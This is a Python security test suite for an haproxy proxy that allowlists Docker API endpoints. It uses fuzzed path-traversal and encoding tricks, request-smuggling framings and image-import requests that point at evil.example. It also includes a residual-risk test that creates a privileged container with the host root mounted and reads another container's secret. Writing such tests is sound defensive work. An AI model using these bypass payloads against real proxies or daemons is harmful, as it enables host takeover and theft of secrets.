"""The Docker API socket proxy (deploy/socket-proxy/haproxy.cfg) decides, through the real haproxy binary.

Upstream is a recording HTTP server on a unix socket: what reaches it is what the daemon would have seen.
Every listed endpoint (hypothesis-made ids, image references, version prefixes, queries) must arrive as sent;
anything else (other methods, the rest of the v1.41 API, path tricks, header and framing tricks) must not,
unless what reached the upstream normalises, as the daemon reads it, to a listed endpoint. The judge below is
written from the list's own rules, not from the proxy's regexes. A last test runs the proxy in front of the
real daemon to show what the list still allows (the residual risk) and what it stops.
"""

from __future__ import annotations

import posixpath
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import parse_qsl, quote, unquote, urlencode, urlsplit

import docker
import docker.errors
import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.security.docker_api_v141 import CATALOGUE, instantiate
from tests.support.docker_fixtures import test_labels
from tests.support.socket_proxy import (
    PROXY_CONFIG,
    PROXY_DIR,
    Received,
    RecordingUpstream,
    RunningProxy,
    exchange,
    listed_endpoints,
    running_haproxy,
)

LISTED = listed_endpoints()
CASES = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
FORBIDDEN = ("/containers/{id}/exec", "/exec/{id}/start", "/build", "/containers/{id}/archive",
             "/containers/{id}/attach", "/swarm/init", "/plugins/pull", "/images/load", "/secrets/create")


# ------------------------------------------------------------------------------------------------ the judge


def loose_regex(template: str) -> re.Pattern[str]:
    """The list's matching rules: `{id}` one segment, `{name}` one or more, optional version prefix."""
    body = re.escape(template).replace(re.escape("{id}"), "[^/]+").replace(re.escape("{name}"), ".+")
    return re.compile(rf"(/v[0-9.]+)?{body}")


LOOSE = [(method, loose_regex(path)) for method, path in LISTED]


def daemon_path(target: str) -> str:
    """The path the daemon routes on: absolute form stripped, query and fragment cut, percent-decoded, then
    cleaned like Go's path.Clean (the router redirects to the clean path)."""
    target = re.sub(r"^[A-Za-z][A-Za-z0-9+.-]*://[^/?#]*", "", target) or "/"
    path = unquote(re.split(r"[?#]", target, maxsplit=1)[0])
    cleaned = posixpath.normpath("/" + path.lstrip("/"))
    return re.sub(r"/+", "/", cleaned)


PULL_FIELDS = {"fromImage", "tag", "platform"}  # POST /images/create with anything else is an image import


def is_listed(received: Received) -> bool:
    path = daemon_path(received.target)
    if not any(received.method == method and regex.fullmatch(path) for method, regex in LOOSE):
        return False
    if received.method == "POST" and re.fullmatch(r"(/v[0-9.]+)?/images/create", path):
        query = urlsplit(received.target).query
        fields = {key for key, _ in parse_qsl(query, keep_blank_values=True)}
        return fields <= PULL_FIELDS and not received.body  # the daemon reads form fields from a body too
    return True


# ------------------------------------------------------------------------------------------------ fixtures


@pytest.fixture(scope="module")
def upstream(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RecordingUpstream]:
    with RecordingUpstream(tmp_path_factory.mktemp("upstream") / "docker.sock") as server:
        yield server


@pytest.fixture(scope="module")
def proxy(upstream: RecordingUpstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningProxy]:
    with running_haproxy(upstream.path, tmp_path_factory.mktemp("haproxy")) as running:
        yield running


def request(method: str, target: str, version: str = "HTTP/1.1", headers: str = "", body: bytes = b"",
            close: bool = True) -> bytes:
    head = f"{method} {target} {version}\r\nHost: docker\r\n{headers}"
    if body:
        head += f"Content-Length: {len(body)}\r\n"
    return (head + ("Connection: close\r\n" if close else "") + "\r\n").encode("latin-1") + body


def send(proxy: RunningProxy, upstream: RecordingUpstream, raw: bytes) -> tuple[bytes, list[Received]]:
    upstream.take()
    answer = exchange(proxy.port, raw)
    return answer, upstream.take()


# ------------------------------------------------------------------------------------------------ strategies

ids = st.from_regex(r"[a-f0-9]{12}|[a-f0-9]{64}|[a-zA-Z0-9][a-zA-Z0-9_.-]{0,40}", fullmatch=True)
component = st.from_regex(r"[a-z0-9]+([._-][a-z0-9]+)*", fullmatch=True).filter(lambda s: len(s) < 40)
registry = st.from_regex(r"[a-z0-9]+(\.[a-z0-9]+)*(:[0-9]{1,5})?/", fullmatch=True)
tags = st.from_regex(r":[A-Za-z0-9_][A-Za-z0-9_.-]{0,20}", fullmatch=True)
digests = st.from_regex(r"@sha256:[a-f0-9]{64}", fullmatch=True)


@st.composite
def image_names(draw: st.DrawFn) -> str:
    """An image reference as docker-py puts it in a path (quote, safe "/:": a digest's `@` becomes %40)."""
    path = "/".join(draw(st.lists(component, min_size=1, max_size=3)))
    name = draw(st.one_of(st.just(""), registry)) + path
    name += draw(st.one_of(st.just(""), tags)) + draw(st.one_of(st.just(""), digests))
    return quote(name, safe="/:")


def fill(template: str, draw: st.DrawFn) -> str:
    while "{id}" in template:
        template = template.replace("{id}", draw(ids), 1)
    return template.replace("{name}", draw(image_names())) if "{name}" in template else template


queries = st.dictionaries(st.sampled_from(["all", "filters", "since", "tail", "follow", "fromImage", "name"]),
                          st.text(max_size=30), max_size=3).map(lambda q: "?" + urlencode(q) if q else "")
prefixes = st.sampled_from(["", "/v1.41", "/v1.24", "/v1.43"])


pull_queries = st.dictionaries(st.sampled_from(sorted(PULL_FIELDS)), st.text(max_size=30), max_size=3).map(
    lambda q: "?" + urlencode(q) if q else "")


@st.composite
def listed_requests(draw: st.DrawFn) -> tuple[str, str]:
    method, template = draw(st.sampled_from(LISTED))
    query = draw(pull_queries if template == "/images/create" else queries)
    return method, draw(prefixes) + fill(template, draw) + query


TRICKS = (  # {allowed} and {forbidden} start with "/"
    "{allowed}/../..{forbidden}", "{allowed}/%2e%2e/%2e%2e{forbidden}", "{allowed}/%2E%2E/%2E%2E{forbidden}",
    "{allowed}/.%2e/.%2e{forbidden}", "{allowed}%2F..%2F..{forbidden}", "{allowed}%2f..%2f..%2f{forbidden}",
    "/{forbidden}", "//{forbidden}", "/v1.41{forbidden}", "/v1.41/{forbidden}", "/v1.41/..{forbidden}",
    "/v1.41/.{forbidden}", "{forbidden}?x=/containers/json", "{forbidden}#/containers/json",
    "{forbidden};/containers/json", "{forbidden}%3F/containers/json", "{forbidden}%00/json",
    "{allowed}\\..\\..{forbidden}", "http://docker{forbidden}", "http://x@docker/v1.41{forbidden}",
    "http://docker{allowed}/../..{forbidden}", "{forbidden}/", "{forbidden}/.", "/.{forbidden}",
    "{forbidden}/..{allowed}", "{forbidden}{allowed}", "{allowed}{forbidden}", "{allowed}/..%2F..{forbidden}",
    "{forbidden}%2F..%2F..{allowed}", "{case_allowed}", "{case_forbidden}",
)
VERBS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "get", "Post", "delete")


def flip_case(draw: st.DrawFn, text: str) -> str:
    flips = draw(st.lists(st.booleans(), min_size=len(text), max_size=len(text)))
    flipped = "".join(c.swapcase() if f else c for c, f in zip(text, flips, strict=True))
    return flipped if flipped != text else text.upper()


@st.composite
def tricky_requests(draw: st.DrawFn) -> bytes:
    method, template = draw(st.sampled_from(LISTED))
    allowed = fill(template, draw)
    forbidden = fill(draw(st.sampled_from(FORBIDDEN)), draw)
    target = draw(st.sampled_from(TRICKS)).format(allowed=allowed, forbidden=forbidden,
                                                  case_allowed=flip_case(draw, allowed),
                                                  case_forbidden=flip_case(draw, forbidden))
    verb = draw(st.sampled_from([method, "POST", "GET", "DELETE", "PUT"]))
    return request(verb, target, draw(st.sampled_from(["HTTP/1.1", "HTTP/1.0"])))


@st.composite
def other_method_requests(draw: st.DrawFn) -> bytes:
    """Listed paths with methods the list does not give them (incl. case variants), and the rest of v1.41."""
    method, template = draw(st.sampled_from([*LISTED, *CATALOGUE]))
    verbs = [*VERBS, method.lower(), method.capitalize(), "GE" + "T" * draw(st.integers(2, 3))]
    return request(draw(st.sampled_from(verbs)), draw(prefixes) + fill(template, draw) + draw(queries))


@st.composite
def framing_requests(draw: st.DrawFn) -> bytes:
    """Header and framing tricks around an allowed request that carry a forbidden one behind it."""
    method, template = draw(st.sampled_from(LISTED))
    allowed = fill(template, draw)
    forbidden = request("POST", fill(draw(st.sampled_from(FORBIDDEN)), draw))
    kinds = ["pipelined", "te-and-cl", "cl-zero", "upgrade", "override", "http09", "fold"]
    kind = draw(st.sampled_from(kinds))
    if kind == "pipelined":
        return request(method, allowed, close=False) + forbidden
    if kind == "te-and-cl":
        body = b"0\r\n\r\n" + forbidden
        framing = f"Content-Length: {len(body)}\r\nTransfer-Encoding: chunked\r\n"
        return request("POST", allowed, headers=framing, close=False) + body
    if kind == "cl-zero":
        return request(method, allowed, headers="Content-Length: 0\r\n", close=False) + forbidden
    if kind == "upgrade":
        upgrade = "Connection: Upgrade\r\nUpgrade: tcp\r\n"
        return request(method, allowed, headers=upgrade, close=False) + forbidden
    if kind == "override":
        return request(method, allowed, headers="X-HTTP-Method-Override: DELETE\r\nX-Original-URL: "
                                                f"{forbidden.split()[1].decode()}\r\n")
    if kind == "http09":
        return f"GET {fill(draw(st.sampled_from(FORBIDDEN)), draw)}\r\n\r\n".encode()
    return request(method, allowed, headers="X-A: 1\r\n " + forbidden.split(b"\r\n")[0].decode() + "\r\n")


# ------------------------------------------------------------------------------------------------ tests


def test_the_committed_config_is_generated_from_the_api_list() -> None:
    proc = subprocess.run([sys.executable, str(PROXY_DIR / "generate.py"), "--check"], capture_output=True,
                          text=True)
    assert proc.returncode == 0, proc.stderr
    assert PROXY_CONFIG.read_text().count("acl allow_") == len(LISTED)


@CASES
@given(listed_requests())
def test_every_listed_endpoint_reaches_the_daemon_unchanged(
    proxy: RunningProxy, upstream: RecordingUpstream, call: tuple[str, str]
) -> None:
    method, target = call
    body = b"{}" if method == "POST" and "/images/create" not in target else b""  # a pull has no body
    answer, received = send(proxy, upstream, request(method, target, body=body))
    assert answer.startswith(b"HTTP/1.1 200"), (call, answer)
    assert [(r.method, r.target) for r in received] == [call]


@CASES
@given(st.one_of(tricky_requests(), other_method_requests(), framing_requests()))
def test_nothing_else_reaches_the_daemon(
    proxy: RunningProxy, upstream: RecordingUpstream, raw: bytes
) -> None:
    answer, received = send(proxy, upstream, raw)
    unlisted = [r for r in received if not is_listed(r)]
    assert not unlisted, f"{raw!r} reached the daemon as {unlisted}; the proxy answered {answer[:200]!r}"


def test_every_trick_and_method_on_every_listed_endpoint(
    proxy: RunningProxy, upstream: RecordingUpstream
) -> None:
    """The finite part exhaustively (hypothesis above varies ids, names and queries): every trick on every
    listed endpoint, every other verb on every listed path, every v1.41 endpoint."""
    sent: list[bytes] = []
    for index, (method, template) in enumerate(LISTED):
        allowed, forbidden = instantiate(template), instantiate(FORBIDDEN[index % len(FORBIDDEN)])
        for trick in TRICKS:
            target = trick.format(allowed=allowed, forbidden=forbidden, case_allowed=allowed.upper(),
                                  case_forbidden=forbidden.upper())
            sent += [request(verb, target) for verb in {method, "POST", "DELETE"}]
        sent += [request(verb, "/v1.41" + allowed) for verb in VERBS if verb != method]
    sent += [request(method, "/v1.41" + instantiate(template)) for method, template in CATALOGUE]
    for raw in sent:
        answer, received = send(proxy, upstream, raw)
        unlisted = [r for r in received if not is_listed(r)]
        assert not unlisted, f"{raw!r} reached the daemon as {unlisted}; the proxy answered {answer[:200]!r}"
    print(f"\n{len(sent)} requests sent, none unlisted reached the upstream")


IMPORTS = (  # POST /images/create as Docker's image import: from a URL, or from the request body
    ("/v1.41/images/create?fromSrc=http://evil.example/x.tar&repo=example-flow&tag=1.4.1", "", b""),
    ("/v1.41/images/create?fromImage=busybox&fromSrc=-", "", b""),
    ("/v1.41/images/create?from%53rc=http://evil.example/x.tar", "", b""),
    ("/v1.41/images/create?fromImage=busybox&tag=1;fromSrc=-", "", b""),
    ("/images/create?repo=flow&fromSrc=-", "", b"not an image"),
    ("/v1.41/images/create", "Content-Type: application/x-www-form-urlencoded\r\n",
     b"fromSrc=http://evil.example/x.tar&repo=flow&tag=1"),
    ("/v1.41/images/create?fromImage=busybox", "Content-Type: application/x-tar\r\n", b"tar bytes"),
    ("/v1.41/images/create?fromImage=busybox", "Transfer-Encoding: chunked\r\n", b"0\r\n\r\n"),
)


def test_images_create_passes_a_pull_and_never_an_import(
    proxy: RunningProxy, upstream: RecordingUpstream
) -> None:
    pull = "/v1.41/images/create?tag=1.4.1&fromImage=127.0.0.1%3A5000%2Fteam%2Fflow"  # as docker-py sends it
    answer, received = send(proxy, upstream, request("POST", pull, headers="Content-Length: 0\r\n"))
    assert answer.startswith(b"HTTP/1.1 200") and [(r.method, r.target) for r in received] == [("POST", pull)]
    for target, headers, body in IMPORTS:
        answer, received = send(proxy, upstream, request("POST", target, headers=headers, body=body))
        assert answer.startswith(b"HTTP/1.1 403") and received == [], (target, headers, answer)


def test_a_refusal_says_why(proxy: RunningProxy, upstream: RecordingUpstream) -> None:
    answer, received = send(proxy, upstream, request("POST", "/v1.41/containers/abc/exec", body=b"{}"))
    assert answer.startswith(b"HTTP/1.1 403") and b"not on the agent's list" in answer, answer
    assert received == []
    line = re.compile(r"POST /v1.41/containers/abc/exec 403 .* denied$", re.MULTILINE)
    deadline = time.monotonic() + 10  # haproxy writes the line after the answer
    while not line.search(proxy.log()) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert line.search(proxy.log()), proxy.log()


def test_of_the_whole_v141_api_exactly_the_list_passes(
    proxy: RunningProxy, upstream: RecordingUpstream
) -> None:
    passed = []
    for method, template in CATALOGUE:
        _, received = send(proxy, upstream, request(method, "/v1.41" + instantiate(template)))
        if received:
            passed.append((method, template))
    expected = [(m, t) for m, t in CATALOGUE if is_listed(Received(m, "/v1.41" + instantiate(t), "", b""))]
    print(f"\nv1.41: {len(CATALOGUE)} endpoints, {len(passed)} pass the proxy: {passed}")
    assert passed == expected
    assert len(expected) == len(LISTED), "a listed endpoint is not in the v1.41 catalogue (or two collapse)"


# --------------------------------------------------------------------------------------------- residual risk


@pytest.fixture
def daemon_proxy(tmp_path: Path) -> Iterator[str]:
    """The proxy in front of the real daemon: its URL."""
    with running_haproxy(Path("/var/run/docker.sock"), tmp_path) as running:
        yield f"http://127.0.0.1:{running.port}/v1.41"


@pytest.mark.docker
def test_residual_risk_within_the_list(
    docker_client: docker.DockerClient, daemon_proxy: str, busybox_image: str
) -> None:
    """Within the list a caller can still create a privileged container with the host's / mounted, and read
    any container's environment; exec, build and volume removal are refused."""
    api = docker.APIClient(base_url=daemon_proxy.replace("http://", "tcp://").removesuffix("/v1.41"),
                           version="1.41", timeout=30)
    risky = api.create_container(busybox_image, ["true"], labels=test_labels(),
                                 host_config=api.create_host_config(privileged=True, binds=["/:/host:rw"]))
    victim = docker_client.containers.create(busybox_image, ["true"], environment={"SECRET": "s3cr3t"},
                                             labels=test_labels())
    volume = docker_client.volumes.create(labels=test_labels())
    try:
        # Never started: privileged containers fail on these VMs anyway.
        attrs = api.inspect_container(str(risky["Id"]))
        assert attrs["HostConfig"]["Privileged"] is True and "/:/host:rw" in attrs["HostConfig"]["Binds"]
        assert "SECRET=s3cr3t" in api.inspect_container(str(victim.id))["Config"]["Env"]
        refused = {
            "exec": requests.post(f"{daemon_proxy}/containers/{victim.id}/exec", json={"Cmd": ["id"]},
                                  timeout=30),
            "exec start": requests.post(f"{daemon_proxy}/exec/{'0' * 64}/start", json={}, timeout=30),
            "build": requests.post(f"{daemon_proxy}/build", data=b"", timeout=30),
            "volume delete": requests.delete(f"{daemon_proxy}/volumes/{volume.name}", timeout=30),
        }
        assert {k: r.status_code for k, r in refused.items()} == dict.fromkeys(refused, 403), refused
        volume.reload()  # still there
    finally:
        api.remove_container(risky["Id"], force=True)  # DELETE /containers/{id} is on the list
        victim.remove(force=True)
        volume.remove(force=True)
        api.close()
